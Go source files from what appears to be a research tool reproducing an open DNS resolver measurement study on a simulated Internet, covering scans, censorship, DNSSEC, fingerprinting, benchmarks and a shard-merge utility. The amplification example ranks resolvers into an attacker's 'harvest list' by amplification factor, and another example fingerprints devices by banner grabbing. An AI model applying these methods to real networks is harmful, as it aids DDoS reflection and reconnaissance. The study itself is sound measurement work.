// Churn study: the Section-2 longitudinal view — weekly scans of the
// whole space (Figure 1), country/RIR fluctuation (Tables 1–2), the IP
// churn of the first-scan cohort (Figure 2), and the utilization study
// via cache snooping (§2.6).
package main

import (
	"fmt"
	"log"

	"goingwild"

	"goingwild/internal/analysis"
)

func main() {
	cfg := goingwild.DefaultConfig(17)
	cfg.Weeks = 14 // a quarter-length run keeps the example fast
	study, err := goingwild.NewStudy(cfg)
	if err != nil {
		log.Fatal(err)
	}
	defer study.Close()
	scale := goingwild.ScaleOf(study)

	series, err := study.RunWeeklySeries()
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(analysis.RenderFigure1(series, scale))
	fmt.Println(analysis.RenderTable1(series, scale, 10))
	fmt.Println(analysis.RenderTable2(series, scale))

	cohort, err := study.RunCohortStudy(10)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(analysis.RenderFigure2(cohort))

	util, err := study.RunUtilization(43)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(analysis.RenderUtilization(util))
}
