// Censorship study: scan the Alexa and Adult categories at every open
// resolver, isolate the unexpected answers, and reproduce the paper's
// Figure-4 geography — the Chinese injector dominating the blocked trio —
// plus the per-country compliance analysis of §4.2.
package main

import (
	"fmt"
	"log"
	"sort"

	"goingwild"

	"goingwild/internal/analysis"
	"goingwild/internal/classify"
	"goingwild/internal/domains"
)

func main() {
	study, err := goingwild.NewStudy(goingwild.DefaultConfig(18))
	if err != nil {
		log.Fatal(err)
	}
	defer study.Close()

	res, err := study.RunDomainStudy(50, []goingwild.Category{domains.Alexa, domains.Adult})
	if err != nil {
		log.Fatal(err)
	}

	fmt.Println(analysis.RenderFigure4(res.Fig4))

	country := func(ri int) string {
		return study.World.Geo().LookupU32(res.Resolvers[ri]).Country
	}
	for _, name := range []string{"facebook.com", "adultfinder.com", "youporn.com"} {
		cov := classify.CensorCoverage(res.Scan, res.Pre, country, name)
		type row struct {
			cc string
			v  float64
		}
		var rows []row
		for cc, v := range cov {
			if v > 0.10 {
				rows = append(rows, row{cc, v})
			}
		}
		sort.Slice(rows, func(i, j int) bool { return rows[i].v > rows[j].v })
		fmt.Printf("censorship compliance for %s:\n", name)
		for _, r := range rows {
			fmt.Printf("  %-3s %5.1f%% of the country's resolvers\n", r.cc, 100*r.v)
		}
		fmt.Println()
	}

	fmt.Printf("GFW double responses observed from %d resolvers\n",
		res.Report.Cases.DoubleResponseResolvers)
}
