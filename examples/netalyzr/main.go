// Netalyzr-style sessions: the complementary vantage of §6. Open-resolver
// scans can only see resolvers that answer the public Internet; volunteer
// sessions *inside* access networks exercise the closed ISP resolvers and
// surface the same manipulation — notably the NXDOMAIN monetization
// Weaver et al. reported — among servers no scan can reach.
package main

import (
	"fmt"
	"log"
	"sort"

	"goingwild"

	"goingwild/internal/analysis"
)

func main() {
	study, err := goingwild.NewStudy(goingwild.DefaultConfig(18))
	if err != nil {
		log.Fatal(err)
	}
	defer study.Close()

	s := study.RunNetalyzr(50, 1200)
	fmt.Println(analysis.RenderNetalyzr(s))

	// Where do the monetizing ISPs sit?
	byCountry := map[string]int{}
	sessionsByCountry := map[string]int{}
	for _, sess := range s.Sessions {
		sessionsByCountry[sess.Country]++
		if sess.NXMonetized {
			byCountry[sess.Country]++
		}
	}
	type row struct {
		cc   string
		rate float64
		n    int
	}
	var rows []row
	for cc, n := range byCountry {
		if sessionsByCountry[cc] >= 20 {
			rows = append(rows, row{cc, float64(n) / float64(sessionsByCountry[cc]), n})
		}
	}
	sort.Slice(rows, func(i, j int) bool { return rows[i].rate > rows[j].rate })
	fmt.Println("NXDOMAIN monetization by country (≥20 sessions):")
	for i, r := range rows {
		if i >= 8 {
			break
		}
		fmt.Printf("  %-3s %5.1f%% of sessions (%d hits)\n", r.cc, 100*r.rate, r.n)
	}
}
