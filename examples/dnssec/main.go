// DNSSEC race: the §5 discussion made executable. A client behind a
// Chinese resolver asks for an injected domain; the forged answer always
// arrives first. Accepting the first response yields a poisoned lookup;
// waiting for a correctly signed response (Ed25519, RFC 8080) removes the
// poisoning — but only turns it into unavailability unless the legitimate
// signed answer ever arrives.
package main

import (
	"fmt"
	"log"

	"goingwild"

	"goingwild/internal/analysis"
)

func main() {
	study, err := goingwild.NewStudy(goingwild.DefaultConfig(18))
	if err != nil {
		log.Fatal(err)
	}
	defer study.Close()

	for _, name := range []string{"wikileaks.org", "facebook.com"} {
		res, err := study.RunDNSSECRace(50, "CN", name)
		if err != nil {
			log.Fatal(err)
		}
		fmt.Println(analysis.RenderDNSSECRace(res))
	}

	fmt.Println("The validate-and-wait strategy only helps when the client already")
	fmt.Println("knows the zone is signed (§5) — otherwise the unsigned fallback")
	fmt.Println("reopens the race the injector always wins.")
}
