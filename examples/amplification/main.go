// Amplification survey: the DDoS-abuse angle that motivates the paper's
// first section. ANY queries measure each resolver's bandwidth
// amplification factor; the worst decile is what attackers harvest.
package main

import (
	"fmt"
	"log"
	"sort"

	"goingwild"

	"goingwild/internal/analysis"
)

func main() {
	study, err := goingwild.NewStudy(goingwild.DefaultConfig(17))
	if err != nil {
		log.Fatal(err)
	}
	defer study.Close()

	survey, scanned, err := study.RunAmplification(50, "chase.com")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(analysis.RenderAmplification(survey, scanned))

	// The harvest list an attacker would build: top amplifiers first.
	ms := survey.Measurements
	sort.Slice(ms, func(i, j int) bool { return ms[i].BAF() > ms[j].BAF() })
	fmt.Println("top amplifiers:")
	for i, m := range ms {
		if i >= 5 {
			break
		}
		fmt.Printf("  %3d bytes in → %5d bytes out   (BAF %.1f)\n",
			m.RequestSize, m.ResponseSize, m.BAF())
	}
}
