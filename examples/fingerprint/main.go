// Fingerprint survey: the §2.4 classification of resolvers by DNS server
// software (CHAOS version.bind / version.server queries → Table 3) and by
// hardware device (FTP/HTTP/HTTPS/SSH/Telnet banner grabbing against the
// regular-expression database → Table 4).
package main

import (
	"fmt"
	"log"

	"goingwild"

	"goingwild/internal/analysis"
	"goingwild/internal/fingerprint"
)

func main() {
	study, err := goingwild.NewStudy(goingwild.DefaultConfig(17))
	if err != nil {
		log.Fatal(err)
	}
	defer study.Close()

	// Dec 17, 2014 is week 46 of the study.
	chaos, n, err := study.RunChaos(46)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("CHAOS scan over %d NOERROR resolvers (device DB: %d expressions)\n\n",
		n, fingerprint.RuleCount())
	fmt.Println(analysis.RenderTable3(chaos, 10))

	devices, err := study.RunDevices(46)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(analysis.RenderTable4(devices))

	fmt.Println("most common fingerprinted models:")
	shown := 0
	for label, count := range devices.Labels {
		fmt.Printf("  %-20s %d\n", label, count)
		if shown++; shown >= 8 {
			break
		}
	}
}
