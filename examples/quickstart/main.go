// Quickstart: build a small virtual Internet, enumerate its open DNS
// resolvers, run the Figure-3 classification chain over two domain
// categories, and print what the resolvers are doing to the answers.
package main

import (
	"fmt"
	"log"

	"goingwild"

	"goingwild/internal/analysis"
	"goingwild/internal/domains"
)

func main() {
	// Order 16 is a 65,536-address world: a laptop-friendly miniature
	// of the paper's 2^32 scan space.
	study, err := goingwild.NewStudy(goingwild.DefaultConfig(16))
	if err != nil {
		log.Fatal(err)
	}
	defer study.Close()

	// Step 1: the Internet-wide scan.
	sweep, err := study.SweepAt(50)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("week-50 scan: %d responding DNS servers (≈%.1fM at paper scale)\n",
		sweep.Total(), float64(sweep.Total())*study.World.ScaleFactor()/1e6)

	// Steps 2–6: domain scan, prefilter, acquisition, clustering,
	// labeling for the Banking and NX categories.
	res, err := study.RunDomainStudy(50, []goingwild.Category{domains.Banking, domains.NX})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("\nProcessing chain:")
	for _, st := range res.StageTrace {
		fmt.Printf("  %-26s %d\n", st.Stage, st.Count)
	}
	fmt.Println()
	fmt.Println(analysis.RenderTable5(res.Report.Table5,
		[]goingwild.Category{domains.Banking, domains.NX}))
}
