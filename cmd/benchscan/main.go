// Command benchscan measures the two measurement hot paths — the sweep
// engine and hierarchical clustering — and writes the results as JSON
// (BENCH_scan.json by default). The committed copy of that file is the
// performance baseline; `make bench` regenerates it and CI runs the
// -quick variant as a smoke test so the harness itself cannot rot.
//
// The JSON layout is fixed (struct-ordered keys, no timestamps or host
// details), so two runs differ only in the measured numbers.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"testing"

	"goingwild/internal/cluster"
	"goingwild/internal/core"
	"goingwild/internal/scanner"
)

type sweepBench struct {
	Order       uint    `json:"order"`
	Probes      uint64  `json:"probes"`
	NsPerOp     int64   `json:"ns_per_op"`
	ProbesPerS  float64 `json:"probes_per_sec"`
	AllocsPerOp int64   `json:"allocs_per_op"`
	BytesPerOp  int64   `json:"bytes_per_op"`
}

type clusterBench struct {
	N          int     `json:"n"`
	NsPerOp    int64   `json:"ns_per_op"`
	ItemsPerS  float64 `json:"items_per_sec"`
	MergeCount int     `json:"merges"`
}

// shardRow is one line of the shard-scaling table: the sweep run as M
// leapfrog shard workers. Efficiency is throughput(M) / (M *
// throughput(1)) — the classic parallel-efficiency ratio, which on a
// single-core runner decays as ~1/M by construction.
type shardRow struct {
	Shards     int     `json:"shards"`
	NsPerOp    int64   `json:"ns_per_op"`
	ProbesPerS float64 `json:"probes_per_sec"`
	Efficiency float64 `json:"parallel_efficiency"`
}

// dispatchBench compares probe dispatch modes: "batched" uses the
// transport's SendBatch (sendmmsg-style bulk handoff), "single" hides
// the BatchSender interface and falls back to one Send per probe.
type dispatchBench struct {
	Mode       string  `json:"mode"`
	NsPerOp    int64   `json:"ns_per_op"`
	ProbesPerS float64 `json:"probes_per_sec"`
}

// epochBench measures the streaming weekly series end to end: weekly
// sweeps expressed as delta batches, pushed through the bounded queue
// and applied by the epoch engine. Throughput is delta records per
// second across the whole stream (produce + diff + apply).
type epochBench struct {
	Weeks        int     `json:"weeks"`
	DeltaRecords int     `json:"delta_records"`
	NsPerOp      int64   `json:"ns_per_op"`
	RecordsPerS  float64 `json:"delta_records_per_sec"`
}

type report struct {
	Sweep sweepBench `json:"sweep"`
	// SweepShards is the M=1,2,4,8 scaling table; BestShards is the row
	// with the highest throughput (the number the perf target is judged
	// at).
	SweepShards   []shardRow      `json:"sweep_shards"`
	BestShards    int             `json:"best_shards"`
	SweepDispatch []dispatchBench `json:"sweep_dispatch"`
	EpochStream   epochBench      `json:"epoch_stream"`
	Cluster       []clusterBench  `json:"cluster"`
	// ClusterScalingRatio is time(2n)/time(n) for the two cluster sizes:
	// ~4 for the O(n²) chain, ~6-8 for the old O(n³) scan at these sizes.
	ClusterScalingRatio float64 `json:"cluster_scaling_ratio"`
}

// synthDist is a deterministic, hash-flavored distance in (0, 1] so the
// clustering benchmark sees realistic unequal distances rather than a
// handful of tied values.
func synthDist(i, j int) float64 {
	h := uint64(i*2654435761) ^ uint64(j)*0x9E3779B97F4A7C15
	h ^= h >> 33
	h *= 0xFF51AFD7ED558CCD
	h ^= h >> 33
	return float64(h%1000000+1) / 1000000
}

func benchSweep(order uint) (sweepBench, error) {
	s, err := core.NewStudy(core.DefaultConfig(order))
	if err != nil {
		return sweepBench{}, err
	}
	defer s.Close()
	var probed uint64
	r := testing.Benchmark(func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			res, err := s.Scanner.Sweep(order, uint32(i+1), s.World.ScanBlacklist())
			if err != nil {
				b.Fatal(err)
			}
			probed = res.Probed
		}
	})
	ns := r.NsPerOp()
	return sweepBench{
		Order:       order,
		Probes:      probed,
		NsPerOp:     ns,
		ProbesPerS:  float64(probed) / (float64(ns) / 1e9),
		AllocsPerOp: r.AllocsPerOp(),
		BytesPerOp:  r.AllocedBytesPerOp(),
	}, nil
}

// benchScanner times one sweep configuration over an existing study's
// transport (or any Transport wrapper around it).
func benchScanner(s *core.Study, tr scanner.Transport, order uint, shards int) (int64, uint64) {
	sc := scanner.New(tr, scanner.Options{
		Workers:     s.Cfg.Workers,
		Shards:      shards,
		Retries:     1,
		SettleDelay: scanner.NoSettle,
	})
	var probed uint64
	r := testing.Benchmark(func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			res, err := sc.Sweep(order, uint32(i+1), s.World.ScanBlacklist())
			if err != nil {
				b.Fatal(err)
			}
			probed = res.Probed
		}
	})
	return r.NsPerOp(), probed
}

// singleOnly hides the transport's BatchSender so the scanner falls
// back to the per-probe Send loop.
type singleOnly struct{ scanner.Transport }

func benchShardTable(s *core.Study, order uint, ms []int) []shardRow {
	rows := make([]shardRow, 0, len(ms))
	var base float64
	for _, m := range ms {
		ns, probed := benchScanner(s, s.Transport, order, m)
		pps := float64(probed) / (float64(ns) / 1e9)
		if m == 1 {
			base = pps
		}
		eff := 1.0
		if base > 0 {
			eff = pps / (float64(m) * base)
		}
		rows = append(rows, shardRow{Shards: m, NsPerOp: ns, ProbesPerS: pps, Efficiency: eff})
		fmt.Printf("sweep shards=%d: %.3fs/op  %.2fM probes/s  efficiency %.2f\n",
			m, float64(ns)/1e9, pps/1e6, eff)
	}
	return rows
}

func benchDispatch(s *core.Study, order uint) []dispatchBench {
	out := make([]dispatchBench, 0, 2)
	for _, mode := range []string{"batched", "single"} {
		tr := scanner.Transport(s.Transport)
		if mode == "single" {
			tr = singleOnly{s.Transport}
		}
		ns, probed := benchScanner(s, tr, order, 1)
		pps := float64(probed) / (float64(ns) / 1e9)
		out = append(out, dispatchBench{Mode: mode, NsPerOp: ns, ProbesPerS: pps})
		fmt.Printf("sweep dispatch=%s: %.3fs/op  %.2fM probes/s\n", mode, float64(ns)/1e9, pps/1e6)
	}
	return out
}

// benchEpochStream times the streaming weekly series on its own study
// (the epoch count, not the space order, dominates its cost).
func benchEpochStream(order uint, weeks int) (epochBench, error) {
	cfg := core.DefaultConfig(order)
	cfg.Weeks = weeks
	s, err := core.NewStudy(cfg)
	if err != nil {
		return epochBench{}, err
	}
	defer s.Close()
	var records int
	r := testing.Benchmark(func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			records = 0
			if _, err := s.RunWeeklySeriesStream(func(v core.EpochView) {
				records += len(v.Delta.Deltas)
			}); err != nil {
				b.Fatal(err)
			}
		}
	})
	ns := r.NsPerOp()
	return epochBench{
		Weeks:        weeks,
		DeltaRecords: records,
		NsPerOp:      ns,
		RecordsPerS:  float64(records) / (float64(ns) / 1e9),
	}, nil
}

func benchCluster(n int) clusterBench {
	var merges int
	r := testing.Benchmark(func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			res := cluster.Agglomerate(n, synthDist, 0.6)
			merges = len(res.Merges)
		}
	})
	ns := r.NsPerOp()
	return clusterBench{
		N:          n,
		NsPerOp:    ns,
		ItemsPerS:  float64(n) / (float64(ns) / 1e9),
		MergeCount: merges,
	}
}

func main() {
	out := flag.String("out", "BENCH_scan.json", "output JSON path")
	order := flag.Uint("order", 20, "sweep order (2^order probe targets)")
	quick := flag.Bool("quick", false, "CI smoke mode: order 16 sweep, smaller cluster sizes")
	flag.Parse()

	// testing.Benchmark honors the -test.benchtime flag; register the
	// testing flags and pin a small fixed iteration count so a run costs
	// seconds, not minutes (one sweep iteration is the dominant cost).
	testing.Init()
	if err := flag.Set("test.benchtime", "1x"); err != nil {
		fmt.Fprintln(os.Stderr, "benchscan:", err)
		os.Exit(1)
	}

	sweepOrder := *order
	clusterSizes := []int{400, 800}
	epochWeeks := 8
	if *quick {
		sweepOrder = 16
		clusterSizes = []int{200, 400}
		epochWeeks = 4
	}

	sw, err := benchSweep(sweepOrder)
	if err != nil {
		fmt.Fprintln(os.Stderr, "benchscan: sweep:", err)
		os.Exit(1)
	}
	fmt.Printf("sweep order=%d: %d probes in %.3fs  %.2fM probes/s  %d allocs/op  %.1f MB/op\n",
		sw.Order, sw.Probes, float64(sw.NsPerOp)/1e9, sw.ProbesPerS/1e6,
		sw.AllocsPerOp, float64(sw.BytesPerOp)/(1<<20))

	// The shard-scaling table and the dispatch comparison share one
	// study (one world build). Three iterations per row: these are the
	// numbers make bench-quick gates on, so buy down the noise.
	if err := flag.Set("test.benchtime", "3x"); err != nil {
		fmt.Fprintln(os.Stderr, "benchscan:", err)
		os.Exit(1)
	}
	study, err := core.NewStudy(core.DefaultConfig(sweepOrder))
	if err != nil {
		fmt.Fprintln(os.Stderr, "benchscan:", err)
		os.Exit(1)
	}
	defer study.Close()
	rep := report{Sweep: sw}
	rep.SweepShards = benchShardTable(study, sweepOrder, []int{1, 2, 4, 8})
	best := rep.SweepShards[0]
	for _, row := range rep.SweepShards[1:] {
		if row.ProbesPerS > best.ProbesPerS {
			best = row
		}
	}
	rep.BestShards = best.Shards
	fmt.Printf("best shard count: M=%d at %.2fM probes/s\n", best.Shards, best.ProbesPerS/1e6)
	rep.SweepDispatch = benchDispatch(study, sweepOrder)

	es, err := benchEpochStream(sweepOrder, epochWeeks)
	if err != nil {
		fmt.Fprintln(os.Stderr, "benchscan: epoch stream:", err)
		os.Exit(1)
	}
	rep.EpochStream = es
	fmt.Printf("epoch stream weeks=%d: %.3fs/op  %d delta records  %.0f records/s\n",
		es.Weeks, float64(es.NsPerOp)/1e9, es.DeltaRecords, es.RecordsPerS)

	// Clustering is cheap enough for a few iterations; median out noise.
	if err := flag.Set("test.benchtime", "3x"); err != nil {
		fmt.Fprintln(os.Stderr, "benchscan:", err)
		os.Exit(1)
	}
	for _, n := range clusterSizes {
		cb := benchCluster(n)
		rep.Cluster = append(rep.Cluster, cb)
		fmt.Printf("cluster n=%d: %.3fms/op  %.0f items/s  %d merges\n",
			cb.N, float64(cb.NsPerOp)/1e6, cb.ItemsPerS, cb.MergeCount)
	}
	if len(rep.Cluster) == 2 && rep.Cluster[0].NsPerOp > 0 {
		rep.ClusterScalingRatio = float64(rep.Cluster[1].NsPerOp) / float64(rep.Cluster[0].NsPerOp)
		fmt.Printf("cluster scaling time(%d)/time(%d) = %.2fx (4x = quadratic)\n",
			rep.Cluster[1].N, rep.Cluster[0].N, rep.ClusterScalingRatio)
	}

	buf, err := json.MarshalIndent(&rep, "", "  ")
	if err != nil {
		fmt.Fprintln(os.Stderr, "benchscan:", err)
		os.Exit(1)
	}
	buf = append(buf, '\n')
	if err := os.WriteFile(*out, buf, 0o644); err != nil {
		fmt.Fprintln(os.Stderr, "benchscan:", err)
		os.Exit(1)
	}
	fmt.Println("wrote", *out)
}
