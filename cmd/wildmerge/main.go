// Command wildmerge recombines per-shard census artifacts — written by
// `goingwild -shard i/M -shard-out f.json` running as M independent
// processes — into the single-scan census report. The merged report is
// byte-identical to what one unsharded process prints for the same
// (order, seed, week), which is the whole point: sharding an
// Internet-wide scan across machines must not change its result.
//
// Usage:
//
//	goingwild -order 16 -shard 0/4 -shard-out s0.json
//	goingwild -order 16 -shard 1/4 -shard-out s1.json
//	...
//	wildmerge s0.json s1.json s2.json s3.json
//	wildmerge -out merged.json s*.json     # also write the merged artifact
package main

import (
	"flag"
	"fmt"
	"os"

	"goingwild/internal/shardio"
)

func main() {
	out := flag.String("out", "", "also write the merged census as a 1/1 artifact to this file")
	flag.Usage = func() {
		fmt.Fprintln(os.Stderr, "usage: wildmerge [-out merged.json] shard0.json shard1.json ...")
		flag.PrintDefaults()
	}
	flag.Parse()
	if flag.NArg() == 0 {
		flag.Usage()
		os.Exit(2)
	}
	arts := make([]shardio.Artifact, 0, flag.NArg())
	for _, path := range flag.Args() {
		a, err := shardio.ReadFile(path)
		if err != nil {
			fatal(err)
		}
		arts = append(arts, a)
	}
	res, prov, err := shardio.Merge(arts)
	if err != nil {
		fatal(err)
	}
	if *out != "" {
		if err := shardio.WriteFile(*out, shardio.FromSweep(prov, 0, 1, res)); err != nil {
			fatal(err)
		}
	}
	fmt.Print(shardio.RenderCensus(res))
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "wildmerge:", err)
	os.Exit(1)
}
