// Command wildmerge recombines per-shard census artifacts — written by
// `goingwild -shard i/M -shard-out f.json` running as M independent
// processes — into the single-scan census report. The merged report is
// byte-identical to what one unsharded process prints for the same
// (order, seed, week), which is the whole point: sharding an
// Internet-wide scan across machines must not change its result.
//
// Usage:
//
//	goingwild -order 16 -shard 0/4 -shard-out s0.json
//	goingwild -order 16 -shard 1/4 -shard-out s1.json
//	...
//	wildmerge s0.json s1.json s2.json s3.json
//	wildmerge -out merged.json s*.json     # also write the merged artifact
package main

import (
	"errors"
	"flag"
	"fmt"
	"io"
	"os"

	"goingwild/internal/shardio"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

// run is the testable body of the command: it parses args, merges the
// named artifacts, and returns the process exit code.
func run(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("wildmerge", flag.ContinueOnError)
	fs.SetOutput(stderr)
	out := fs.String("out", "", "also write the merged census as a 1/1 artifact to this file")
	fs.Usage = func() {
		fmt.Fprintln(stderr, "usage: wildmerge [-out merged.json] shard0.json shard1.json ...")
		fs.PrintDefaults()
	}
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if fs.NArg() == 0 {
		// An empty shard list is a broken invocation (typically a glob
		// that matched nothing), never a valid scan of zero shards: say
		// so explicitly rather than printing only the usage text, and
		// exit non-zero so driving scripts fail loudly.
		fmt.Fprintln(stderr, "wildmerge: no shard artifact files given (did your glob match anything?)")
		fs.Usage()
		return 2
	}
	arts := make([]shardio.Artifact, 0, fs.NArg())
	for _, path := range fs.Args() {
		a, err := shardio.ReadFile(path)
		if err != nil {
			fmt.Fprintln(stderr, "wildmerge:", err)
			if errors.Is(err, shardio.ErrCorrupt) {
				// A truncated or garbled artifact is a transfer problem,
				// not a scan problem: exit 2 so driving scripts can
				// re-fetch the file instead of re-running the shard.
				return 2
			}
			return 1
		}
		arts = append(arts, a)
	}
	res, prov, err := shardio.Merge(arts)
	if err != nil {
		fmt.Fprintln(stderr, "wildmerge:", err)
		return 1
	}
	if *out != "" {
		if err := shardio.WriteFile(*out, shardio.FromSweep(prov, 0, 1, res)); err != nil {
			fmt.Fprintln(stderr, "wildmerge:", err)
			return 1
		}
	}
	fmt.Fprint(stdout, shardio.RenderCensus(res))
	return 0
}
