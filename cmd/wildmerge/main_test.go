package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"goingwild/internal/scanner"
	"goingwild/internal/shardio"
)

func TestRunEmptyShardListFailsLoudly(t *testing.T) {
	var out, errOut strings.Builder
	code := run(nil, &out, &errOut)
	if code == 0 {
		t.Fatal("empty shard list exited zero")
	}
	if !strings.Contains(errOut.String(), "no shard artifact files") {
		t.Errorf("diagnostic missing from stderr:\n%s", errOut.String())
	}
	if !strings.Contains(errOut.String(), "usage: wildmerge") {
		t.Errorf("usage missing from stderr:\n%s", errOut.String())
	}
	if out.Len() != 0 {
		t.Errorf("stdout not empty: %q", out.String())
	}
}

func TestRunUnreadableArtifactFails(t *testing.T) {
	var out, errOut strings.Builder
	if code := run([]string{filepath.Join(t.TempDir(), "missing.json")}, &out, &errOut); code != 1 {
		t.Fatalf("exit code = %d, want 1", code)
	}
	if !strings.Contains(errOut.String(), "wildmerge:") {
		t.Errorf("diagnostic missing from stderr:\n%s", errOut.String())
	}
}

func TestRunMergesArtifacts(t *testing.T) {
	dir := t.TempDir()
	prov := shardio.Provenance{Order: 8, Seed: 1, ScanSeed: 2, Week: 0}
	mk := func(shard int, addrs ...uint32) string {
		res := &scanner.SweepResult{Probed: 4}
		for _, a := range addrs {
			res.Responders = append(res.Responders, scanner.Responder{Addr: a, Source: a})
		}
		path := filepath.Join(dir, "s"+string(rune('0'+shard))+".json")
		if err := shardio.WriteFile(path, shardio.FromSweep(prov, shard, 2, res)); err != nil {
			t.Fatal(err)
		}
		return path
	}
	p0, p1 := mk(0, 1, 3), mk(1, 2, 4)
	var out, errOut strings.Builder
	if code := run([]string{p0, p1}, &out, &errOut); code != 0 {
		t.Fatalf("exit code = %d, stderr:\n%s", code, errOut.String())
	}
	if !strings.Contains(out.String(), "responders   4") {
		t.Errorf("census missing merged responder count:\n%s", out.String())
	}
}

// TestRunTruncatedArtifactExitsTwo pins the transfer-vs-scan exit-code
// split: a mid-file truncation (half-copied artifact) is diagnosed with
// its byte offset and exits 2, distinct from both semantic merge
// failures (1) and success (0).
func TestRunTruncatedArtifactExitsTwo(t *testing.T) {
	dir := t.TempDir()
	prov := shardio.Provenance{Order: 8, Seed: 1, ScanSeed: 2, Week: 0}
	res := &scanner.SweepResult{Probed: 4, Responders: []scanner.Responder{{Addr: 1, Source: 1}, {Addr: 2, Source: 2}}}
	whole := filepath.Join(dir, "s0.json")
	if err := shardio.WriteFile(whole, shardio.FromSweep(prov, 0, 1, res)); err != nil {
		t.Fatal(err)
	}
	blob, err := os.ReadFile(whole)
	if err != nil {
		t.Fatal(err)
	}
	torn := filepath.Join(dir, "torn.json")
	if err := os.WriteFile(torn, blob[:len(blob)/2], 0o644); err != nil {
		t.Fatal(err)
	}
	var out, errOut strings.Builder
	if code := run([]string{torn}, &out, &errOut); code != 2 {
		t.Fatalf("exit code = %d, want 2; stderr:\n%s", code, errOut.String())
	}
	if !strings.Contains(errOut.String(), "truncated at byte") {
		t.Errorf("diagnostic does not name the truncation offset:\n%s", errOut.String())
	}
	if out.Len() != 0 {
		t.Errorf("stdout not empty: %q", out.String())
	}
}
