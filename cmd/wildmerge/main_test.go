package main

import (
	"path/filepath"
	"strings"
	"testing"

	"goingwild/internal/scanner"
	"goingwild/internal/shardio"
)

func TestRunEmptyShardListFailsLoudly(t *testing.T) {
	var out, errOut strings.Builder
	code := run(nil, &out, &errOut)
	if code == 0 {
		t.Fatal("empty shard list exited zero")
	}
	if !strings.Contains(errOut.String(), "no shard artifact files") {
		t.Errorf("diagnostic missing from stderr:\n%s", errOut.String())
	}
	if !strings.Contains(errOut.String(), "usage: wildmerge") {
		t.Errorf("usage missing from stderr:\n%s", errOut.String())
	}
	if out.Len() != 0 {
		t.Errorf("stdout not empty: %q", out.String())
	}
}

func TestRunUnreadableArtifactFails(t *testing.T) {
	var out, errOut strings.Builder
	if code := run([]string{filepath.Join(t.TempDir(), "missing.json")}, &out, &errOut); code != 1 {
		t.Fatalf("exit code = %d, want 1", code)
	}
	if !strings.Contains(errOut.String(), "wildmerge:") {
		t.Errorf("diagnostic missing from stderr:\n%s", errOut.String())
	}
}

func TestRunMergesArtifacts(t *testing.T) {
	dir := t.TempDir()
	prov := shardio.Provenance{Order: 8, Seed: 1, ScanSeed: 2, Week: 0}
	mk := func(shard int, addrs ...uint32) string {
		res := &scanner.SweepResult{Probed: 4}
		for _, a := range addrs {
			res.Responders = append(res.Responders, scanner.Responder{Addr: a, Source: a})
		}
		path := filepath.Join(dir, "s"+string(rune('0'+shard))+".json")
		if err := shardio.WriteFile(path, shardio.FromSweep(prov, shard, 2, res)); err != nil {
			t.Fatal(err)
		}
		return path
	}
	p0, p1 := mk(0, 1, 3), mk(1, 2, 4)
	var out, errOut strings.Builder
	if code := run([]string{p0, p1}, &out, &errOut); code != 0 {
		t.Fatalf("exit code = %d, stderr:\n%s", code, errOut.String())
	}
	if !strings.Contains(out.String(), "responders   4") {
		t.Errorf("census missing merged responder count:\n%s", out.String())
	}
}
