// Command goingwild runs the full reproduction pipeline against a
// simulated IPv4 Internet and prints the paper's tables and figures.
//
// Usage:
//
//	goingwild -order 18 -exp all
//	goingwild -order 20 -exp fig1,table3,table5 -weeks 55
//	goingwild -order 20 -exp all -progress
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"time"

	"goingwild/internal/analysis"
	"goingwild/internal/churn"
	"goingwild/internal/core"
	"goingwild/internal/dataset"
	"goingwild/internal/debughttp"
	"goingwild/internal/domains"
	"goingwild/internal/metrics"
	"goingwild/internal/pipeline"
	"goingwild/internal/scanner"
	"goingwild/internal/shardio"
)

func main() {
	var (
		order       = flag.Uint("order", 18, "address-space width in bits (14–32)")
		seed        = flag.Uint64("seed", 0x60176A11D, "world seed")
		weeks       = flag.Int("weeks", 12, "weekly scans for the longitudinal study")
		epochs      = flag.Int("epochs", 0, "stream the weekly series incrementally as N weekly epochs (implies -weeks N; 0 = batch); stdout is byte-identical either way")
		exps        = flag.String("exp", "all", "comma-separated experiments: census,fig1,table1,table2,table3,table4,fig2,util,verify,domains,fig4,cases,pipeline,amp,dnssec,popularity")
		week        = flag.Int("week", 50, "study week for the point-in-time experiments")
		export      = flag.String("export", "", "directory to export JSONL datasets into")
		progress    = flag.Bool("progress", false, "print per-stage pipeline events to stderr")
		chaos       = flag.String("chaos", "", "fault-injection profile (clean, lossy, hostile, flaky); empty injects nothing")
		shards      = flag.Int("shards", 0, "run every sweep as N in-process leapfrog shard workers (0/1 = unsharded; results identical)")
		shardSpec   = flag.String("shard", "", "run only census shard i/M of the -week sweep and exit (e.g. -shard 0/4); requires -shard-out")
		shardOut    = flag.String("shard-out", "", "write the -shard census artifact (JSON) to this file, for cmd/wildmerge")
		metricsPath = flag.String("metrics", "", "write a JSON metrics snapshot to this file at exit")
		debugAddr   = flag.String("debug-addr", "", "serve expvar/pprof/metrics over HTTP on this address (e.g. localhost:6060)")
	)
	flag.Parse()

	// SIGINT cancels the context; every study checkpoint honors it, so a
	// Ctrl-C stops the run at the next stage boundary or send batch.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	cfg := core.DefaultConfig(*order)
	if *chaos != "" {
		c, err := core.ChaosProfileConfig(*order, *chaos)
		if err != nil {
			fmt.Fprintln(os.Stderr, "goingwild:", err)
			os.Exit(1)
		}
		cfg = c
	}
	cfg.Seed = *seed
	cfg.Weeks = *weeks
	if *epochs > 0 {
